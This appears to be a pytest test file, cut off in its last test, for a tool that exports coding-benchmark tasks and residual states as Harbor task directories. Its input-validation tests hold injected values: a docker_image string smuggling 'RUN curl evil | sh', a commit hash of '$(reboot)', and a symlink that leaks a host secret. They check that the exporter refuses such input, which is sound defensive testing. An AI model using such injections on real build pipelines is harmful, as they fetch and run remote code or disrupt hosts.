"""`swe-residual export harbor`: every (task, start) of a track as a Harbor task dir.

Checked against the real parts: the demo track and the DeepSWE-shaped fixture exported through the
CLI, Harbor's own task model (the `harbor` package from PyPI, in a Python >= 3.12 venv) loading
every exported dir, and Docker building residual environments whose containers must hold the state
uncommitted.
"""

from __future__ import annotations

import filecmp
import functools
import hashlib
import json
import os
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
import yaml

from swe_residual.backends import repo
from swe_residual.errors import InputError
from swe_residual.harbor.export import (
    EXPORT_FORMAT,
    HARBOR_TASK_SCHEMA,
    HARBOR_VERSION,
    JUNIT_TO_CTRF,
    ctrf_test_sh,
    export_tasks,
    harbor_slug,
    residual_solve_script,
    rewrite_task_toml,
    target_schema,
)
from swe_residual.patches import parse_patch, patch_files
from swe_residual.states import LoadedState, load_states
from swe_residual.tasks import load_tasks

from . import drivers
from .drivers import ON_PYTHONPATH, world
from .harbor_helpers import harbor_venv_python

ROOT = Path(__file__).resolve().parent.parent
DEEPSWE = ROOT / "tests" / "fixtures" / "deepswe"

# The demo track: 8 tasks; states.yaml lists 2+2+3+2+2+2+2+2 = 17 states for them.
DEMO_TASKS, DEMO_STATES = 8, 17


cli = functools.partial(drivers.cli, env=ON_PYTHONPATH)


def tree_files(root: Path) -> dict[str, tuple[bytes, int]]:
    """{relative path: (content, mode)} of every file under root (links as their target text)."""
    out = {}
    for p in sorted(root.rglob("*")):
        if p.is_symlink():
            out[str(p.relative_to(root))] = (os.readlink(p).encode(), 0)
        elif p.is_file():
            out[str(p.relative_to(root))] = (p.read_bytes(), p.stat().st_mode & 0o777)
    return out


def exported_copy(src: Path, dest: Path, *, state: LoadedState | None = None) -> None:
    """dest is src as the export writes it, exactly: every file byte for byte (mode kept) except
    task.toml (checked by the caller), tests/test.sh moved to tests/.swe-residual/ under the
    CTRF-writing wrapper, and for a residual start solution/solve.sh moved under the wrapper that
    undoes the state and environment/ (checked by the caller)."""
    want, got, residual = tree_files(src), tree_files(dest), state is not None
    for files in (want, got):
        files.pop("task.toml")
        if residual:
            for k in [k for k in files if k.startswith("environment/")]:
                files.pop(k)
    want["tests/.swe-residual/test.sh"] = want["tests/test.sh"]
    want["tests/test.sh"] = (ctrf_test_sh(("junit.xml",)).encode(), 0o755)
    want["tests/.swe-residual/junit_to_ctrf.py"] = (JUNIT_TO_CTRF.read_bytes(), 0o644)
    if residual:
        want["solution/.swe-residual/solve.sh"] = want["solution/solve.sh"]
        want["solution/solve.sh"] = (residual_solve_script(state).encode(), 0o755)
        want["solution/.swe-residual/state.patch"] = (state.patch_path.read_bytes(), 0o644)
        assert (
            b'g apply -R --binary --whitespace=nowarn "$here/.swe-residual/state.patch"'
            in want["solution/solve.sh"][0]
        )
    assert sorted(got) == sorted(want), dest
    for k in want:
        assert got[k] == want[k], f"{dest / k} differs"


def schema_only_changed(src_toml: Path, dest_toml: Path) -> None:
    """The exported task.toml is the task's text with the schema_version line alone rewritten."""
    a, b = src_toml.read_text().splitlines(), dest_toml.read_text().splitlines()
    changed = [(x, y) for x, y in zip(a, b) if x != y]
    assert len(a) == len(b) and len(changed) == 1, changed
    assert changed[0][1].startswith(f'schema_version = "{HARBOR_TASK_SCHEMA}"  # was schema_version = ')
    want = tomllib.loads(src_toml.read_text())
    want["schema_version"] = HARBOR_TASK_SCHEMA
    assert tomllib.loads(dest_toml.read_text()) == want


def same_tree(a: Path, b: Path) -> bool:
    cmp = filecmp.dircmp(a, b)
    if cmp.left_only or cmp.right_only or cmp.funny_files:
        return False
    _, mismatch, errors = filecmp.cmpfiles(a, b, cmp.common_files, shallow=False)
    return not mismatch and not errors and all(same_tree(a / d, b / d) for d in cmp.common_dirs)


@pytest.fixture(scope="module")
def demo_export(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("exp") / "demo"
    res = cli("export", "harbor", "--track", "demo", "--out", str(out))
    assert res.returncode == 0, res.stderr
    assert (
        f"exported {DEMO_TASKS + DEMO_STATES} Harbor task dirs ({DEMO_TASKS} clean, {DEMO_STATES} residual)"
        in res.stdout
    )
    return out


@pytest.fixture(scope="module")
def deepswe_export(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("exp") / "deepswe"
    res = cli(
        "export",
        "harbor",
        "--track",
        "deepswe",
        "--tasks-dir",
        str(DEEPSWE),
        "--states",
        str(DEEPSWE / "states.yaml"),
        "--out",
        str(out),
    )
    assert res.returncode == 0, res.stderr
    return out


@pytest.mark.slow
def test_demo_export_index_and_clean_copies(demo_export):
    index = json.loads((demo_export / "export.json").read_text())
    assert index["format"] == EXPORT_FORMAT and index["track"] == "demo" and index["n_tasks"] == 25
    entries = index["tasks"]
    dirs = sorted(p.name for p in demo_export.iterdir() if p.is_dir())
    assert sorted(e["name"] for e in entries) == dirs and len(dirs) == 25
    assert len({e["harbor_name"] for e in entries}) == 25
    states = yaml.safe_load((ROOT / "states.yaml").read_text())["states"]
    demo_ids = sorted(s["id"] for s in states if s["track"] == "demo")
    assert sorted(e["state_id"] for e in entries if e["start"] == "residual") == demo_ids
    for e in entries:
        if e["start"] == "clean":
            # the clean start is the task dir, byte for byte, but for the schema_version line and the
            # verifier wrapped to write ctrf.json
            src = ROOT / "suites" / "demo" / "tasks" / e["source"]
            exported_copy(src, demo_export / e["name"])
            schema_only_changed(src / "task.toml", demo_export / e["name"] / "task.toml")
            assert e["state_id"] is None and e["harbor_name"] == e["name"] == e["task"]
            assert e["ctrf"] == "junit" and e["solution"] == "reference"


@pytest.mark.slow
def test_demo_residual_dirs(demo_export):
    states = {
        s.id: s
        for s in load_states(
            ROOT / "states.yaml", {"demo": load_tasks(ROOT / "suites/demo/tasks", "demo")}, tracks={"demo"}
        )
    }
    index = json.loads((demo_export / "export.json").read_text())
    for e in (e for e in index["tasks"] if e["start"] == "residual"):
        state, src, dest = (
            states[e["state_id"]],
            ROOT / "suites/demo/tasks" / e["source"],
            demo_export / e["name"],
        )
        assert e["name"] == state.id  # demo state ids are already '<task>--<what>'
        assert filecmp.cmp(src / "instruction.md", dest / "instruction.md", shallow=False)
        exported_copy(src, dest, state=state)
        assert e["ctrf"] == "junit" and e["solution"] == "undo-state-then-reference"
        # task.toml: the original data in Harbor's task schema plus [metadata.swe_residual], nothing else
        got = tomllib.loads((dest / "task.toml").read_text())
        want = tomllib.loads((src / "task.toml").read_text())
        want["schema_version"] = HARBOR_TASK_SCHEMA
        ours = got["metadata"].pop("swe_residual")
        assert got == want
        assert ours == {
            "format": EXPORT_FORMAT,
            "track": "demo",
            "task": state.task,
            "start": "residual",
            "state_id": state.id,
            "predecessor_agent": "handwritten",
            "predecessor_model_family": "handwritten",
            "state_patch_sha256": state.artifact.sha256,
            "failing_tests": state.initial_verdict.failing_tests,
        }
        assert e["failing_tests"] == state.initial_verdict.failing_tests
        # the environment: the clean build context plus the state, and the Dockerfile extended at its end
        env = dest / "environment"
        assert same_tree(src / "environment" / "repo", env / "repo")
        clean_df = (src / "environment" / "Dockerfile").read_text()
        df = (env / "Dockerfile").read_text()
        assert df.startswith(clean_df.rstrip("\n") + "\n")
        assert df.rstrip().splitlines()[-2:] == [
            "COPY .swe-residual /tmp/.swe-residual-state",
            'RUN ["/bin/sh", "/tmp/.swe-residual-state/apply-state.sh"]',
        ]
        patch = (env / ".swe-residual" / "state.patch").read_bytes()
        assert hashlib.sha256(patch).hexdigest() == state.artifact.sha256 == e["state_patch_sha256"]
        assert (env / ".swe-residual" / "apply_patch.sh").read_bytes() == (
            ROOT / "swe_residual/backends/scripts/apply_patch.sh"
        ).read_bytes()


@pytest.mark.slow
def test_start_selects_what_is_exported(tmp_path):
    assert (
        cli(
            "export", "harbor", "--track", "demo", "--start", "clean", "--out", str(tmp_path / "c")
        ).returncode
        == 0
    )
    assert len(json.loads((tmp_path / "c" / "export.json").read_text())["tasks"]) == DEMO_TASKS
    assert (
        cli(
            "export", "harbor", "--track", "demo", "--start", "residual", "--out", str(tmp_path / "r")
        ).returncode
        == 0
    )
    starts = {e["start"] for e in json.loads((tmp_path / "r" / "export.json").read_text())["tasks"]}
    assert starts == {"residual"} and len(list((tmp_path / "r").iterdir())) == DEMO_STATES + 1


@pytest.mark.slow
def test_out_must_be_new_or_empty(tmp_path):
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    res = cli("export", "harbor", "--track", "demo", "--out", str(tmp_path / "out"))
    assert res.returncode == 2
    want = f"error: --out {tmp_path / 'out'}: exists and is not an empty dir; choose a new one"
    assert res.stderr.strip().splitlines() == [want]
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["keep.txt"]
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no half-written temp dir left


def test_a_residual_export_without_states_is_one_error_line(tmp_path):
    states = tmp_path / "states.yaml"
    states.write_text("states: []\n")
    out = tmp_path / "out"
    res = cli(
        "export",
        "harbor",
        "--track",
        "demo",
        "--start",
        "residual",
        "--states",
        str(states),
        "--out",
        str(out),
    )
    assert res.returncode == 2, res.stderr
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(
        f"error: states file {states} lists no states for track 'demo': "
    )
    assert not out.exists()


@pytest.mark.slow
def test_deepswe_residual_starts_from_the_prebuilt_image(deepswe_export):
    index = json.loads((deepswe_export / "export.json").read_text())
    by_start = {e["start"]: e for e in index["tasks"]}
    clean, res = by_start["clean"], by_start["residual"]
    # the verifier writes ctrf.json itself (tests/ unchanged); task.toml gets Harbor's task schema
    assert clean["ctrf"] == res["ctrf"] == "task"
    clean_src, clean_dest = (
        tree_files(DEEPSWE / "wordstats-top-words"),
        tree_files(deepswe_export / clean["name"]),
    )
    assert clean_src.pop("task.toml") != clean_dest.pop("task.toml") and clean_src == clean_dest
    schema_only_changed(
        DEEPSWE / "wordstats-top-words" / "task.toml", deepswe_export / clean["name"] / "task.toml"
    )
    assert clean["harbor_name"] == "swe-residual/wordstats-top-words"
    assert res["name"] == "wordstats-top-words--ties-by-first-seen"
    assert res["harbor_name"] == "swe-residual/wordstats-top-words--ties-by-first-seen"
    image = "swe-residual-fixtures/deepswe:swr-wordstats-top-words-v1.1"
    assert res["from_image"] == image
    dest = deepswe_export / res["name"]
    # Harbor would use docker_image instead of the Dockerfile: it is dropped, [task] name renamed
    got = tomllib.loads((dest / "task.toml").read_text())
    want = tomllib.loads((DEEPSWE / "wordstats-top-words" / "task.toml").read_text())
    assert want["environment"].pop("docker_image") == image and "docker_image" not in got["environment"]
    want["task"]["name"] = res["harbor_name"]
    want["schema_version"] = HARBOR_TASK_SCHEMA
    assert got["metadata"].pop("swe_residual")["state_id"] == "wordstats-top-words--ties-by-first-seen"
    assert got == want
    assert sorted(p.name for p in (dest / "environment").iterdir()) == [".swe-residual", "Dockerfile"]
    assert (dest / "environment" / "Dockerfile").read_text().splitlines()[0] == f"FROM {image}"
    script = (dest / "environment" / ".swe-residual" / "apply-state.sh").read_text()
    assert "base='491efc2f74f356d3bcee86f64cf0a65bcec8acdd'" in script  # HEAD is checked against it
    # the separate verifier still builds on the clean image
    assert same_tree(DEEPSWE / "wordstats-top-words" / "tests", dest / "tests")


# -- hostile or unsupported input --------------------------------------------------------------
def _calc(tmp_path: Path, **kw):
    w = world(tmp_path, backend="docker", **kw)
    return w.tasks[0], w.states


def _export(tmp_path: Path, states_path: Path, out: str = "out", start: str = "both"):
    tasks = load_tasks(tmp_path / "tasks", "demo")
    states = load_states(states_path, {"demo": tasks}, tracks={"demo"})
    return export_tasks(tasks, states, tmp_path / out, track="demo", start=start)


def test_symlink_leaving_the_task_is_refused(tmp_path):
    task, states_path = _calc(tmp_path)
    (tmp_path / "secret.txt").write_text("host secret")
    (task / "environment" / "repo" / "leak.txt").symlink_to(tmp_path / "secret.txt")
    with pytest.raises(InputError, match=r"leak.txt: symlink to .*secret.txt leaves the task dir"):
        _export(tmp_path, states_path)
    assert not (tmp_path / "out").exists() and not list(tmp_path.glob(".out.export-*"))
    # a relative link that stays inside is kept as a link
    (task / "environment" / "repo" / "leak.txt").unlink()
    (task / "environment" / "repo" / "alias.py").symlink_to("calc.py")
    _export(tmp_path, states_path)
    assert os.readlink(tmp_path / "out" / "calc--partial" / "environment" / "repo" / "alias.py") == "calc.py"


@pytest.mark.parametrize(
    "line, message",
    [
        (
            '[environment]\ndocker_image = "x\\nRUN curl evil | sh"\n',
            r"environment.docker_image: .* is not an image reference",
        ),
        (
            '[environment]\ndocker_image = "img:1"\n[verifier]\nenvironment_mode = "separate"\n',
            r"separate verifier without tests/Dockerfile",
        ),
    ],
)
def test_bad_environments_are_refused(tmp_path, line, message):
    task, states_path = _calc(tmp_path)
    text = (task / "task.toml").read_text().replace("[environment]\n", "[environment_old]\n")
    text = text.replace("[verifier]\n", "[verifier_old]\n") if "[verifier]" in line else text
    (task / "task.toml").write_text(text + line)
    with pytest.raises(InputError, match=message):
        _export(tmp_path, states_path)


def test_base_commit_must_be_hex(tmp_path):
    task, states_path = _calc(tmp_path)
    text = (task / "task.toml").read_text()
    (task / "task.toml").write_text(
        text.replace("[metadata]\n", '[metadata]\nbase_commit_hash = "$(reboot)"\n')
    )
    with pytest.raises(InputError, match=r"metadata.base_commit_hash: '\$\(reboot\)' is not a commit hash"):
        _export(tmp_path, states_path)


def test_inline_metadata_cannot_be_extended(tmp_path):
    task, states_path = _calc(tmp_path)
    text = (task / "task.toml").read_text()
    start, end = text.index("[metadata]"), text.index("[agent]")
    (task / "task.toml").write_text(
        text[:start] + 'metadata = {task_id = "calc", repository_dir = "environment/repo"}\n' + text[end:]
    )
    with pytest.raises(InputError, match=r"task.toml: cannot add \[metadata.swe_residual\]"):
        _export(tmp_path, states_path)


def test_metadata_values_round_trip_through_toml():
    # failing test ids are free text: quotes, backslashes, control characters, DEL, non-ASCII
    odd = ['t["a\\"b"]', "line\nbreak\ttab\x00nul\x7fdel", "ünïcödé ✓ \U0001f600"]
    text = '[task]\nname = "org/x"\n\n[environment]\ndocker_image = "img:1"  # prebuilt\ncpus = 2\n'
    out = rewrite_task_toml(
        text,
        Path("task.toml"),
        metadata={"failing_tests": odd, "state_id": 'a"b'},
        new_name="org/x--s",
        drop_docker_image=True,
    )
    assert tomllib.loads(out) == {
        "task": {"name": "org/x--s"},
        "environment": {"cpus": 2},
        "metadata": {"swe_residual": {"failing_tests": odd, "state_id": 'a"b'}},
    }
    assert '# docker_image = "img:1"  # prebuilt' in out  # kept visible, as a comment


def test_slugs_are_harbor_names():
    assert harbor_slug("Calc_Task v2") == "calc_task-v2"
    assert harbor_slug("..a..b..") == "a.b"
    assert harbor_slug("ÄÖ").startswith("task-")
    long = harbor_slug("x" * 300)
    assert len(long) == 100 and long.startswith("x" * 91 + "-")


# -- Harbor's own task model --------------------------------------------------------------------
@pytest.fixture(scope="module")
def harbor_python() -> str:
    return harbor_venv_python()


# Runs in the harbor venv: loads each task dir with Harbor's Task model and reports what Harbor
# would do with it.
LOAD_WITH_HARBOR = r"""
import json, sys
from pathlib import Path
from harbor.models.task.task import Task
from harbor.environments.definition import should_use_prebuilt_docker_image
out = {}
for d in sorted(p for p in Path(sys.argv[1]).iterdir() if p.is_dir()):
    t = Task(d)
    env = t.config.environment
    out[d.name] = {"name": t.name, "valid": Task.is_valid_dir(d), "metadata": t.config.metadata,
                   "docker_image": env.docker_image,
                   "uses_prebuilt": should_use_prebuilt_docker_image(t.paths.environment_dir,
                                                                     docker_image=env.docker_image, force_build=False),
                   "builds_dockerfile": (t.paths.environment_dir / "Dockerfile").is_file(),
                   "instruction": t.instruction}
print(json.dumps(out))
"""


def load_with_harbor(python: str, export_dir: Path) -> dict:
    res = subprocess.run(
        [python, "-c", LOAD_WITH_HARBOR, str(export_dir)],
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )
    assert res.returncode == 0, res.stderr[-3000:]
    return json.loads(res.stdout)


def test_harbor_loads_every_exported_dir(harbor_python, demo_export, deepswe_export):
    index = {e["name"]: e for e in json.loads((demo_export / "export.json").read_text())["tasks"]}
    loaded = load_with_harbor(harbor_python, demo_export)
    assert sorted(loaded) == sorted(index) and len(loaded) == 25
    for name, t in loaded.items():
        e = index[name]
        assert (
            t["valid"] and t["name"] == e["harbor_name"] and t["builds_dockerfile"] and not t["uses_prebuilt"]
        )
        assert t["instruction"] == (ROOT / "suites/demo/tasks" / e["source"] / "instruction.md").read_text()
        if e["start"] == "residual":
            assert t["metadata"]["swe_residual"]["state_id"] == e["state_id"]
            assert t["metadata"]["task_id"] == e["task"]  # the task's own metadata is kept
        else:
            assert "swe_residual" not in t["metadata"]
    deep = load_with_harbor(harbor_python, deepswe_export)
    clean, res = deep["wordstats-top-words"], deep["wordstats-top-words--ties-by-first-seen"]
    assert clean["valid"] and res["valid"]
    # Harbor runs the clean start on the prebuilt image and builds the residual one's Dockerfile
    assert (
        clean["uses_prebuilt"]
        and clean["docker_image"] == "swe-residual-fixtures/deepswe:swr-wordstats-top-words-v1.1"
    )
    assert not res["uses_prebuilt"] and res["docker_image"] is None and res["builds_dockerfile"]
    assert res["name"] == "swe-residual/wordstats-top-words--ties-by-first-seen" != clean["name"]


# -- Docker: the residual environment holds the state, uncommitted -------------------------------
def _in_container(client, image: str, script: str) -> str:
    c = client.containers.run(image, ["sh", "-c", script], detach=True, network_mode="none")
    try:
        rc = c.wait(timeout=120)["StatusCode"]
        out = c.logs(stdout=True, stderr=True).decode("utf-8", "replace")
        assert rc == 0, out
        return out
    finally:
        c.remove(force=True)


def _build(client, context: Path, tag: str) -> str:
    import docker.errors

    try:
        image, _ = client.images.build(path=str(context), tag=tag, rm=True, forcerm=True)
    except docker.errors.BuildError as exc:  # show the build log's tail
        log = "".join(x.get("stream", "") for x in getattr(exc, "build_log", []) or [])
        pytest.fail(f"docker build of {context} failed: {exc}\n{log[-3000:]}", pytrace=False)
    return image.id


def check_state_uncommitted(client, image: str, base: str, patch: bytes) -> None:
    sep = "=====swe-residual====="
    out = _in_container(
        client,
        image,
        f"""cd /app && git -c safe.directory='*' rev-parse HEAD && echo {sep} &&
        git -c safe.directory='*' rev-list --count HEAD && echo {sep} &&
        git -c safe.directory='*' status --porcelain -uall && echo {sep} &&
        cp -r /app /tmp/w && cd /tmp/w && git -c safe.directory='*' add -A &&
        git -c safe.directory='*' diff --cached --binary HEAD && echo {sep} &&
        ls -a /tmp""",
    )
    head, count, status, diff, tmp = out.split(sep + "\n")
    assert head.strip() == base and count.strip() == "1"  # HEAD is the base commit, no new commit
    changed = sorted(line[3:] for line in status.splitlines() if line.strip())
    assert changed == sorted(patch_files(patch))  # git status shows exactly the state's files
    assert all(
        line[:2] in (" M", "??", " D") for line in status.splitlines() if line.strip()
    )  # nothing staged
    got, want = parse_patch(diff.encode()), parse_patch(patch)
    assert sorted(got) == sorted(want)
    for path, fd in want.items():  # same content as the state's patch
        assert (got[path].added, got[path].deleted, got[path].binary) == (fd.added, fd.deleted, fd.binary), (
            path
        )
    assert ".swe-residual-state" not in tmp.split()  # the build's copy of the state is gone


@pytest.mark.docker
def test_docker_builds_demo_residual_task(docker_client, bookworm_image, demo_export, tmp_path):
    # date-range-merge--changelog-claims-done: 4 changed files and a new CHANGELOG.md
    name = "date-range-merge--changelog-claims-done"
    patch = (demo_export / name / "environment" / ".swe-residual" / "state.patch").read_bytes()
    assert len(patch_files(patch)) == 5
    base = repo.init_base_repo(
        ROOT / "suites/demo/tasks/date-range-merge/environment/repo", tmp_path / "base"
    )
    image = _build(docker_client, demo_export / name / "environment", "swe-residual-test/export-harbor:demo")
    try:
        check_state_uncommitted(docker_client, image, base, patch)
    finally:
        docker_client.images.remove(image, force=True)


@pytest.mark.docker
def test_docker_builds_residual_through_dockerignore(docker_client, bookworm_image, tmp_path):
    # a build context that excludes everything but repo/ still gets the state; the state has a
    # binary file (logo.bin) and a new NOTES.md
    task, states_path = _calc(tmp_path)
    (task / "environment" / ".dockerignore").write_text("*\n!repo\n")
    _export(tmp_path, states_path, start="residual")
    env = tmp_path / "out" / "calc--partial" / "environment"
    assert (env / ".dockerignore").read_text().endswith("!.swe-residual\n!.swe-residual/**\n")
    patch = (env / ".swe-residual" / "state.patch").read_bytes()
    assert sorted(patch_files(patch)) == ["NOTES.md", "calc.py", "logo.bin"]
    base = repo.init_base_repo(task / "environment" / "repo", tmp_path / "base")
    image = _build(docker_client, env, "swe-residual-test/export-harbor:calc")
    try:
        check_state_uncommitted(docker_client, image, base, patch)
    finally:
        docker_client.images.remove(image, force=True)


# -- Harbor's task schema ------------------------------------------------------------------------
def test_task_toml_targets_harbors_schema():
    # the deprecated fields as Harbor itself reads them, the old marker replaced, comments kept
    old = (
        'version = "1.0"  # old marker\n[metadata]\ntask_id = "x"\n[environment]\nmemory = "2G"\n'
        'storage = "512M"\nallow_internet = false  # offline\ncpus = 2\n[verifier]\ntimeout_sec = 60\n'
        '[verifier.environment]\nallow_internet = true\nmemory_mb = 1024\nmemory = "1G"\n'
    )
    out = target_schema(old, Path("task.toml"))
    assert tomllib.loads(out) == {
        "schema_version": HARBOR_TASK_SCHEMA,
        "metadata": {"task_id": "x"},
        "environment": {"memory_mb": 2048, "storage_mb": 512, "network_mode": "no-network", "cpus": 2},
        "verifier": {"timeout_sec": 60, "environment": {"network_mode": "public", "memory_mb": 1024}},
    }
    assert f'# was version = "1.0"; swe-residual export targets Harbor {HARBOR_VERSION}' in out
    assert '# memory = "1G"' in out  # a duplicate of memory_mb: commented out, visible
    # no marker: one is put at the top; an up-to-date task only gets the marker line rewritten
    assert target_schema("[metadata]\n", Path("t")).startswith(f'schema_version = "{HARBOR_TASK_SCHEMA}"')
    same = f'schema_version = "{HARBOR_TASK_SCHEMA}"\n[environment]\nmemory_mb = 4\n'
    assert tomllib.loads(target_schema(same, Path("t"))) == tomllib.loads(same)


@pytest.mark.parametrize(
    "text, message",
    [
        (
            'schema_version = "9.0"\n',
            r"schema_version 9.0 is newer than the task schema of Harbor 0.26.0 \(1.4\)",
        ),
        ('schema_version = "one"\n', r"schema_version: 'one' is not a version"),
        (
            '[environment]\nmemory = "2G"\nmemory_mb = 1024\n',
            r"memory = '2G' \(2048 MB\) contradicts memory_mb = 1024",
        ),
        ('[environment]\nmemory = "lots"\n', r"'lots' is not a size"),
        ('environment = {memory = "2G"}\n', r"could not rewrite it for Harbor 0.26.0's task schema 1.4"),
    ],
)
def test_task_toml_that_cannot_target_the_schema(text, message):
    with pytest.raises(InputError, match=message):
        target_schema(text, Path("task.toml"))


# -- the verifier's per-test report: JUnit XML -> ctrf.json ---------------------------------------
JUNIT_CASES = """
import pytest

@pytest.fixture
def broken():
    raise RuntimeError("fixture broke")

@pytest.fixture
def bad_teardown():
    yield
    raise RuntimeError("teardown broke")

def test_ok():
    assert True

def test_fails():
    assert 1 == 2, "one is not two"

def test_error(broken):
    pass

def test_passes_then_teardown_errors(bad_teardown):
    pass

@pytest.mark.skip(reason="later")
def test_skipped():
    pass

@pytest.mark.parametrize("x", ["a b", "[x]", "ü"])
def test_param(x):
    assert x != "[x]"
"""


@pytest.mark.slow
def test_junit_to_ctrf_gives_our_grading_statuses(tmp_path):
    from swe_residual.verdicts import ctrf_statuses, read_statuses

    (tmp_path / "t").mkdir()
    (tmp_path / "t" / "test_cases.py").write_text(JUNIT_CASES)
    logs = tmp_path / "logs"
    logs.mkdir()
    for name, extra in (("a.xml", []), ("b.xml", ["-k", "ok or fails"])):  # b.xml overrides part of a.xml
        subprocess.run(
            [
                sys.executable,
                "-m",
                "pytest",
                "-q",
                "-p",
                "no:cacheprovider",
                "-o",
                "junit_family=xunit1",
                f"--junitxml={logs / name}",
                "t",
                *extra,
            ],
            cwd=tmp_path,
            capture_output=True,
            check=False,
        )
    (tmp_path / "b-edit").write_text(
        (logs / "b.xml").read_text().replace('name="test_fails"', 'name="test_ok2"')
    )
    (logs / "b.xml").write_text((tmp_path / "b-edit").read_text())
    (logs / "planted.xml").write_text('<testsuite><testcase classname="t" name="planted"/></testsuite>')
    want = read_statuses(logs, frozenset({"junit"}), ("a.xml", "b.xml"))  # the declared files, in order
    assert want["t.test_cases.test_passes_then_teardown_errors"] == "failed"  # worst status kept
    assert {want["t.test_cases.test_error"], want["t.test_cases.test_skipped"]} == {"failed", "skipped"}
    res = subprocess.run(
        ["python3", "-I", str(JUNIT_TO_CTRF), str(logs), "a.xml", "b.xml"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert res.returncode == 0, res.stderr
    ctrf = json.loads((logs / "ctrf.json").read_text())
    assert (
        "t.planted" not in want
        and ctrf_statuses(ctrf, "ctrf.json") == want
        and list(ctrf_statuses(ctrf, "ctrf.json")) == list(want)
    )
    summary = ctrf["results"]["summary"]
    assert summary["tests"] == len(want) == summary["passed"] + summary["failed"] + summary["skipped"]
    failed = {t["name"]: t for t in ctrf["results"]["tests"] if t["status"] == "failed"}
    assert "one is not two" in failed["t.test_cases.test_fails"]["message"]


def test_junit_to_ctrf_follows_no_link(tmp_path):
    # as our grading: a link where a declared report belongs is unreadable, so nothing is written;
    # a link at ctrf.json is replaced, not followed
    from swe_residual.errors import VerifierError
    from swe_residual.verdicts import read_statuses

    logs, outside = tmp_path / "logs", tmp_path / "outside.xml"
    logs.mkdir()
    outside.write_text('<testsuite><testcase classname="x" name="planted"/></testsuite>')
    (logs / "junit.xml").symlink_to(outside)

    def convert(*names: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            ["python3", "-I", str(JUNIT_TO_CTRF), str(logs), *names],
            capture_output=True,
            text=True,
            check=False,
        )

    res = convert("junit.xml")
    assert res.returncode == 1 and "unreadable report junit.xml: not a regular file" in res.stderr
    with pytest.raises(VerifierError, match="unreadable report junit.xml: not a regular file"):
        read_statuses(logs, frozenset({"junit"}), ("junit.xml",))
    assert not (logs / "ctrf.json").exists()
    (logs / "junit.xml").unlink()
    (logs / "junit.xml").write_text('<testsuite><testcase classname="x" name="real"/></testsuite>')
    (logs / "ctrf.json").symlink_to(tmp_path / "target.json")
    assert convert("junit.xml").returncode == 0
    assert not (logs / "ctrf.json").is_symlink() and not (tmp_path / "target.json").exists()
    assert [t["name"] for t in json.loads((logs / "ctrf.json").read_text())["results"]["tests"]] == ["x.real"]
    (logs / "junit.xml").write_text("<testsuite><testcase")  # unreadable: nothing written
    (logs / "ctrf.json").unlink()
    res = convert("junit.xml")
    assert (
        res.returncode == 1
        and "unreadable JUnit report junit.xml" in res.stderr
        and not (logs / "ctrf.json").exists()
    )
    assert convert("missing.xml").returncode == 0 and not (logs / "ctrf.json").exists()  # none: nothing
    assert convert("../outside.xml").returncode == 1


def test_reserved_names_in_tests_and_solution_are_refused(tmp_path):
    task, states_path = _calc(tmp_path)
    (task / "tests" / ".swe-residual").mkdir()
    with pytest.raises(InputError, match=r"tests/.swe-residual: name reserved for the export's own files"):
        _export(tmp_path, states_path)
    (task / "tests" / ".swe-residual").rmdir()
    (task / "solution" / ".swe-residual").write_text("mine")
    with pytest.raises(InputError, match=r"solution/.swe-residual: name reserved for the export's own files"):
        _export(tmp_path, states_path)


@pytest.mark.docker
def test_docker_residual_reference_and_ctrf_verifier(docker_client, bookworm_image, tmp_path):
    # in a container of the residual image: solution/solve.sh undoes the state (a changed file, a
    # new file, a new binary file) and applies the reference; tests/test.sh writes ctrf.json with
    # the statuses our grading reads from the verifier's JUnit XML
    import io
    import tarfile

    from swe_residual.verdicts import ctrf_statuses, read_statuses

    task, states_path = _calc(tmp_path)
    _export(tmp_path, states_path, start="residual")
    dest = tmp_path / "out" / "calc--partial"
    image = _build(docker_client, dest / "environment", "swe-residual-test/export-harbor:calc-solve")
    c = docker_client.containers.run(image, ["sleep", "infinity"], detach=True, network_mode="none")
    try:
        for d in ("solution", "tests"):
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w") as tar:
                tar.add(dest / d, arcname=d)
            assert c.put_archive("/", buf.getvalue())
        rc, out = c.exec_run(["/solution/solve.sh"], workdir="/app")
        assert rc == 0, out.decode()
        rc, out = c.exec_run(
            ["git", "-c", "safe.directory=*", "status", "--porcelain", "-uall"], workdir="/app"
        )
        assert out.decode().splitlines() == [" M calc.py"]  # state gone, reference applied
        rc, out = c.exec_run(["git", "-c", "safe.directory=*", "diff"], workdir="/app")
        ref = (task / "solution" / "solution.patch").read_text()
        assert parse_patch(out) == parse_patch(ref)
        rc, out = c.exec_run(["/tests/test.sh"], workdir="/app")
        assert rc == 0, out.decode()
        bits, _ = c.get_archive("/logs/verifier")
        with tarfile.open(fileobj=io.BytesIO(b"".join(bits))) as tar:
            for m in tar.getmembers():  # regular files only, inside the target
                if m.isfile() and ".." not in Path(m.name).parts and not m.name.startswith("/"):
                    (tmp_path / "got" / m.name).parent.mkdir(parents=True, exist_ok=True)
                    (tmp_path / "got" / m.name).write_bytes(tar.extractfile(m).read())
    finally:
        c.remove(force=True)
        docker_client.images.remove(image, force=True)
    logs = tmp_path / "got" / "verifier"
    ctrf = json.loads((logs / "ctrf.json").read_text())
    statuses = ctrf_statuses(ctrf, "ctrf.json")
    assert statuses == read_statuses(logs, frozenset({"junit"}), ("junit.xml",)) and set(
        statuses.values()
    ) == {"passed"}
    assert len(statuses) == len(load_tasks(tmp_path / "tasks", "demo")["calc"].grading.required)


# -- Harbor itself: the release and schema the export names, harbor lint -------------------------
HARBOR_FACTS = r"""
import importlib.metadata, json
from harbor.models.task.config import TaskConfig
print(json.dumps({"version": importlib.metadata.version("harbor"), "task_schema": TaskConfig().schema_version}))
"""


def test_export_names_the_harbor_it_targets(harbor_python, demo_export, deepswe_export):
    res = subprocess.run(
        [harbor_python, "-c", HARBOR_FACTS], capture_output=True, text=True, timeout=300, check=False
    )
    assert res.returncode == 0, res.stderr[-2000:]
    facts = json.loads(res.stdout)
